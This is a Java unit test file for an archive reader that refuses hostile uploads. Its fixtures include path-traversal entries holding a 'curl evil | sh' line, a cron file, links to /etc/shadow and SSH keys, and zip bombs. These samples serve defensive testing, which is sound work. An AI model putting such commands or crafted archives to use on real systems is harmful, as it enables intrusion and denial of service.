package st.libreho.registry.internal.files;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static st.libreho.registry.internal.files.TestArchives.stream;
import static st.libreho.registry.internal.files.TestArchives.utf8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.apache.commons.compress.archivers.zip.UnixStat;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.junit.jupiter.api.Test;

import st.libreho.registry.ConfigurationFile;
import st.libreho.registry.Finding;

/** Uploaded archives, ordinary and hostile: what is read, and what is refused naming the entry. */
class ArchiveReaderTest {

    private static final byte[] COMPOSE = utf8("services:\n  web:\n    image: nginx:1.27\n");
    private static final byte[] NGINX = utf8("server { listen 80; }\n");

    @Test
    void aZipIsReadWithItsFoldersSkipped() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("config/", new byte[0]);
        entries.put("config/nginx.conf", NGINX);
        entries.put("compose.yml", COMPOSE);
        ArchiveContents contents = ArchiveReader.read(stream(TestArchives.zip(entries)), "bonfire.zip",
                FileLimits.DEFAULT);
        assertEquals(List.of(), contents.refusals());
        assertEquals(List.of(new ConfigurationFile("compose.yml", new String(COMPOSE)),
                new ConfigurationFile("config/nginx.conf", new String(NGINX))), contents.files());
    }

    @Test
    void aTarGzIsReadAndTheFolderCommonToAllFilesIsRemoved() {
        // as GitHub writes a release archive: a global header with the commit id, then everything in one folder
        byte[] archive = TestArchives.tarGz(tar -> {
            TarArchiveEntry global = new TarArchiveEntry("pax_global_header",
                    TarConstants.LF_PAX_GLOBAL_EXTENDED_HEADER);
            global.addPaxHeader("comment", "0123456789".repeat(4));
            TestArchives.header(tar, global); // Commons Compress writes a global header's records itself
            TestArchives.entry(tar, new TarArchiveEntry("bonfire-1.0/"), new byte[0]);
            TestArchives.file(tar, "bonfire-1.0/compose.yml", COMPOSE);
            TestArchives.file(tar, "bonfire-1.0/config/nginx.conf", NGINX);
        });
        ArchiveContents contents = ArchiveReader.read(stream(archive), "bonfire-1.0.tar.gz", FileLimits.DEFAULT);
        assertEquals(List.of(), contents.refusals());
        assertEquals(List.of("compose.yml", "config/nginx.conf"), paths(contents));
    }

    @Test
    void aLeadingDotSlashIsTheArchivesRoot() {
        // what `tar czf bonfire.tgz .` writes
        byte[] archive = TestArchives.tarGz(tar -> {
            TestArchives.entry(tar, new TarArchiveEntry("./"), new byte[0]);
            TestArchives.file(tar, "./compose.yml", COMPOSE);
            TestArchives.file(tar, "./config/nginx.conf", NGINX);
        });
        assertEquals(List.of("compose.yml", "config/nginx.conf"),
                paths(ArchiveReader.read(stream(archive), "bonfire.tgz", FileLimits.DEFAULT)));
    }

    @Test
    void filesInDifferentFoldersKeepTheirFolders() {
        ArchiveContents contents = read(TestArchives.tarGz(Map.of("a/compose.yml", COMPOSE, "b/nginx.conf", NGINX)));
        assertEquals(List.of("a/compose.yml", "b/nginx.conf"), paths(contents));
    }

    @Test
    void theFormatIsJudgedByTheBytesNotTheName() {
        byte[] tarGz = TestArchives.tarGz(Map.of("compose.yml", COMPOSE));
        byte[] zip = TestArchives.zip(Map.of("compose.yml", COMPOSE));
        assertEquals(List.of("compose.yml"), paths(ArchiveReader.read(stream(tarGz), "x.zip", FileLimits.DEFAULT)));
        assertEquals(List.of("compose.yml"), paths(ArchiveReader.read(stream(zip), "x.tar.gz", FileLimits.DEFAULT)));
        Finding notAnArchive = only(ArchiveReader.read(stream(COMPOSE), "compose.zip", FileLimits.DEFAULT));
        assertEquals(FileRule.ARCHIVE_FORMAT.id(), notAnArchive.rule());
        assertEquals("compose.zip", notAnArchive.file());
    }

    @Test
    void aGzipWithoutATarInsideIsRefused() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(COMPOSE);
        }
        assertEquals(FileRule.ARCHIVE_FORMAT.id(), only(read(bytes.toByteArray())).rule());
    }

    @Test
    void pathsLeavingTheFolderAreRefusedNamingTheEntry() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("compose.yml", COMPOSE);
        entries.put("../../.bashrc", utf8("curl evil | sh\n"));
        entries.put("/etc/cron.d/evil", utf8("* * * * * root sh\n"));
        entries.put("C:\\Windows\\evil.bat", utf8("echo\n"));
        for (byte[] archive : List.of(TestArchives.zip(entries), TestArchives.tarGz(entries))) {
            ArchiveContents contents = read(archive);
            assertTrue(contents.files().isEmpty());
            // Commons Compress turns the tar's backslashes into slashes: absolute all the same
            assertEquals(List.of("../../.bashrc", "/etc/cron.d/evil", "C:"),
                    contents.refusals().stream().map(refusal -> refusal.file().startsWith("C:") ? "C:"
                            : refusal.file()).toList());
            assertEquals(List.of(FileRule.PATH_DOT_SEGMENT.id(), FileRule.PATH_ABSOLUTE.id(),
                    FileRule.PATH_ABSOLUTE.id()), contents.refusals().stream().map(Finding::rule).toList());
        }
    }

    @Test
    void aCommonDotDotIsNotTakenForAFolderToRemove() {
        // stripped as a common folder, "../a" and "../b" would come out as harmless "a" and "b"
        assertEquals(FileRule.PATH_DOT_SEGMENT.id(), read(TestArchives.tarGz(Map.of("../a", COMPOSE, "../b", NGINX)))
                .refusals().get(0).rule());
    }

    @Test
    void symbolicAndHardLinksInATarAreRefused() {
        byte[] archive = TestArchives.tarGz(tar -> {
            TestArchives.file(tar, "compose.yml", COMPOSE);
            TarArchiveEntry symlink = new TarArchiveEntry("passwd", TarConstants.LF_SYMLINK);
            symlink.setLinkName("/etc/passwd");
            TestArchives.entry(tar, symlink, new byte[0]);
            TarArchiveEntry hardLink = new TarArchiveEntry("shadow", TarConstants.LF_LINK);
            hardLink.setLinkName("/etc/shadow");
            TestArchives.entry(tar, hardLink, new byte[0]);
        });
        ArchiveContents contents = read(archive);
        assertEquals(List.of("passwd", "shadow"), contents.refusals().stream().map(Finding::file).toList());
        contents.refusals().forEach(refusal -> assertEquals(FileRule.ARCHIVE_LINK.id(), refusal.rule()));
        assertTrue(contents.refusals().get(0).message().contains("symbolic link"));
        assertTrue(contents.refusals().get(1).message().contains("hard link"));
    }

    @Test
    void devicesAndPipesInATarAreRefused() {
        byte[] archive = TestArchives.tarGz(tar -> {
            TestArchives.entry(tar, new TarArchiveEntry("console", TarConstants.LF_CHR), new byte[0]);
            TestArchives.entry(tar, new TarArchiveEntry("disk", TarConstants.LF_BLK), new byte[0]);
            TestArchives.entry(tar, new TarArchiveEntry("pipe", TarConstants.LF_FIFO), new byte[0]);
        });
        ArchiveContents contents = read(archive);
        assertEquals(List.of("console", "disk", "pipe"), contents.refusals().stream().map(Finding::file).toList());
        contents.refusals().forEach(refusal -> assertEquals(FileRule.ARCHIVE_SPECIAL_ENTRY.id(), refusal.rule()));
    }

    @Test
    void aSymbolicLinkInAZipIsRefused() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(bytes)) {
            ZipArchiveEntry link = new ZipArchiveEntry("id_rsa");
            link.setUnixMode(UnixStat.LINK_FLAG | 0777);
            zip.putArchiveEntry(link);
            zip.write(utf8("../../.ssh/id_rsa")); // a link's content is its target
            zip.closeArchiveEntry();
        }
        Finding refusal = only(read(bytes.toByteArray()));
        assertEquals(FileRule.ARCHIVE_LINK.id(), refusal.rule());
        assertEquals("id_rsa", refusal.file());
    }

    @Test
    void contentThatIsNotUtf8IsRefusedNamingTheLine() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("latin1.txt", new byte[] { 'o', 'k', '\n', 'c', 'a', 'f', (byte) 0xE9, '\n' });
        entries.put("overlong.txt", new byte[] { (byte) 0xC0, (byte) 0xAF }); // '/' in two bytes, a classic bypass
        entries.put("surrogate.txt", new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }); // CESU-8, not UTF-8
        entries.put("truncated.txt", new byte[] { 'a', (byte) 0xE2, (byte) 0x82 });
        ArchiveContents contents = read(TestArchives.zip(entries));
        assertEquals(List.of("latin1.txt", "overlong.txt", "surrogate.txt", "truncated.txt"),
                contents.refusals().stream().map(Finding::file).toList());
        contents.refusals().forEach(refusal -> assertEquals(FileRule.NOT_UTF8.id(), refusal.rule()));
        assertEquals(2, contents.refusals().get(0).line());
    }

    @Test
    void binaryFilesAreRefused() {
        byte[] png = { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13 };
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("logo.png", png);
        entries.put("bell.txt", utf8("ring \u0007\n"));
        ArchiveContents contents = read(TestArchives.zip(entries));
        assertEquals(List.of("logo.png", "bell.txt"), contents.refusals().stream().map(Finding::file).toList());
        contents.refusals().forEach(refusal -> assertEquals(FileRule.BINARY.id(), refusal.rule()));
    }

    @Test
    void aZipBombWithALyingSizeStopsAtTheFileLimit() {
        byte[] bomb = lyingSize(TestArchives.zip(Map.of("bomb.txt", new byte[10 * 1024 * 1024])), 100);
        assertTrue(bomb.length < 50 * 1024, "10 MB of zeros compress to " + bomb.length + " bytes");
        Finding refusal = only(read(bomb));
        assertEquals(FileRule.FILE_TOO_LARGE.id(), refusal.rule());
        assertEquals("bomb.txt", refusal.file());
    }

    @Test
    void aGzipBombStopsAtTheFileLimit() {
        Finding refusal = only(read(TestArchives.tarGz(Map.of("bomb.txt", new byte[10 * 1024 * 1024]))));
        assertEquals(FileRule.FILE_TOO_LARGE.id(), refusal.rule());
        assertEquals("bomb.txt", refusal.file());
    }

    @Test
    void filesUnderTheirLimitButOverTheVersionsTogetherAreRefused() {
        FileLimits limits = new FileLimits(100, 1000, 2500);
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 0; i < 5; i++) {
            entries.put("f" + i + ".txt", utf8("x".repeat(1000)));
        }
        for (byte[] archive : List.of(TestArchives.zip(entries), TestArchives.tarGz(entries))) {
            Finding refusal = only(ArchiveReader.read(stream(archive), "big.zip", limits));
            assertEquals(FileRule.VERSION_TOO_LARGE.id(), refusal.rule());
            assertEquals("big.zip", refusal.file());
        }
    }

    @Test
    void tooManyFilesAreRefused() {
        FileLimits limits = new FileLimits(3, 1000, 100_000);
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 0; i < 4; i++) {
            entries.put("f" + i, COMPOSE);
        }
        assertEquals(FileRule.TOO_MANY_FILES.id(),
                only(ArchiveReader.read(stream(TestArchives.zip(entries)), "a.zip", limits)).rule());
    }

    @Test
    void aZipOfCountlessEmptyFoldersIsRefusedBeforeItsDirectoryIsRead() {
        FileLimits limits = new FileLimits(10, 1000, 100_000);
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 0; i < 100; i++) {
            entries.put("d" + i + "/", new byte[0]);
        }
        assertEquals(FileRule.ARCHIVE_TOO_MANY_ENTRIES.id(),
                only(ArchiveReader.read(stream(TestArchives.zip(entries)), "a.zip", limits)).rule());
    }

    @Test
    void aTarGzOfCountlessFoldersStopsAtTheEntryLimit() {
        FileLimits limits = new FileLimits(10, 1000, 1000);
        byte[] archive = TestArchives.tarGz(tar -> {
            for (int i = 0; i < 3_000; i++) {
                TestArchives.entry(tar, new TarArchiveEntry("d" + i + "/"), new byte[0]);
            }
        });
        Finding refusal = only(ArchiveReader.read(stream(archive), "folders.tgz", limits));
        assertEquals(FileRule.ARCHIVE_TOO_MANY_ENTRIES.id(), refusal.rule());
        assertEquals("folders.tgz", refusal.file());
    }

    @Test
    void aGzipBombInAnEntryThatIsSkippedStopsAtTheArchiveCap() {
        // macOS metadata is skipped unread, but a tar skips by expanding: the expanded stream is capped
        FileLimits limits = new FileLimits(10, 1000, 1000);
        byte[] archive = TestArchives.tarGz(Map.of("__MACOSX/._bomb", new byte[2 * 1024 * 1024]));
        Finding refusal = only(ArchiveReader.read(stream(archive), "bomb.tgz", limits));
        assertEquals(FileRule.ARCHIVE_TOO_LARGE.id(), refusal.rule());
        assertEquals("bomb.tgz", refusal.file());
    }

    @Test
    void anUploadLargerThanItsFilesCouldBeIsRefusedUnread() {
        FileLimits limits = new FileLimits(1, 10, 10);
        byte[] upload = new byte[(int) ArchiveReader.maxArchiveBytes(limits) + 1];
        upload[0] = 'P';
        upload[1] = 'K';
        upload[2] = 3;
        upload[3] = 4;
        assertEquals(FileRule.ARCHIVE_TOO_LARGE.id(), only(ArchiveReader.read(stream(upload), "a.zip", limits))
                .rule());
    }

    @Test
    void aTruncatedArchiveIsRefusedAsDamaged() {
        Map<String, byte[]> entries = Map.of("compose.yml", utf8("x".repeat(5000)));
        byte[] tarGz = TestArchives.tarGz(entries);
        byte[] zip = TestArchives.zip(entries);
        for (byte[] cut : List.of(Arrays.copyOf(tarGz, tarGz.length / 2), Arrays.copyOf(zip, zip.length - 30))) {
            assertEquals(FileRule.ARCHIVE_CORRUPT.id(), only(read(cut)).rule());
        }
    }

    @Test
    void macOsMetadataIsSkipped() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("bonfire/compose.yml", COMPOSE);
        entries.put("bonfire/.DS_Store", new byte[] { 0, 0, 0, 1, 'B', 'u', 'd', '1' });
        entries.put("__MACOSX/bonfire/._compose.yml", new byte[] { 0, 5, 22, 7, 0, 2, 0, 0 });
        assertEquals(List.of("compose.yml"), paths(read(TestArchives.zip(entries))));
    }

    @Test
    void theRulesOfEveryVersionApplyToTheFilesRead() {
        Finding clash = only(read(TestArchives.zip(Map.of("Compose.yml", COMPOSE, "compose.yml", COMPOSE))));
        assertEquals(FileRule.PATH_CASE_CLASH.id(), clash.rule());
        assertEquals(FileRule.EMPTY_SET.id(), only(read(TestArchives.zip(Map.of("empty/", new byte[0])))).rule());
    }

    @Test
    void aNameThatIsNotUtf8IsRefused() throws IOException {
        // what old Windows tools write: names in a legacy code page, without saying so
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(zip, StandardCharsets.ISO_8859_1)) {
            out.putNextEntry(new ZipEntry("caf\u00E9.txt"));
            out.write(COMPOSE);
            out.closeEntry();
        }
        ByteArrayOutputStream tarGz = new ByteArrayOutputStream();
        try (TarArchiveOutputStream out = new TarArchiveOutputStream(new GZIPOutputStream(tarGz), "ISO-8859-1")) {
            TestArchives.file(out, "caf\u00E9.txt", COMPOSE);
        }
        for (byte[] archive : List.of(zip.toByteArray(), tarGz.toByteArray())) {
            assertEquals(FileRule.NOT_UTF8.id(), only(read(archive)).rule());
        }
    }

    @Test
    void aRealQuestionMarkInATarNameIsKept() {
        assertEquals(List.of("why?.md"), paths(read(TestArchives.tarGz(Map.of("why?.md", COMPOSE)))));
    }

    @Test
    void aDamagedEntryIsNamed() {
        byte[] zip = TestArchives.zip(Map.of("compose.yml", utf8("x".repeat(5000))));
        // the deflated data follows the 41-byte local header: 0xFF opens a block of the reserved type 3
        byte[] damaged = zip.clone();
        damaged[41] = (byte) 0xFF;
        Finding refusal = only(read(damaged));
        assertEquals(FileRule.ARCHIVE_CORRUPT.id(), refusal.rule());
        assertEquals("compose.yml", refusal.file());
    }

    /** The zip with its central directory's uncompressed sizes replaced by {@code size}. */
    private static byte[] lyingSize(byte[] zip, int size) {
        byte[] lying = zip.clone();
        for (int i = 0; i + 28 <= lying.length; i++) {
            if (lying[i] == 'P' && lying[i + 1] == 'K' && lying[i + 2] == 1 && lying[i + 3] == 2) {
                lying[i + 24] = (byte) size;
                lying[i + 25] = (byte) (size >> 8);
                lying[i + 26] = 0;
                lying[i + 27] = 0;
            }
        }
        return lying;
    }

    private static ArchiveContents read(byte[] archive) {
        return ArchiveReader.read(stream(archive), "upload", FileLimits.DEFAULT);
    }

    private static List<String> paths(ArchiveContents contents) {
        assertEquals(List.of(), contents.refusals());
        return contents.files().stream().map(ConfigurationFile::path).toList();
    }

    private static Finding only(ArchiveContents contents) {
        assertTrue(contents.files().isEmpty());
        assertEquals(1, contents.refusals().size(), contents.refusals().toString());
        return contents.refusals().get(0);
    }
}
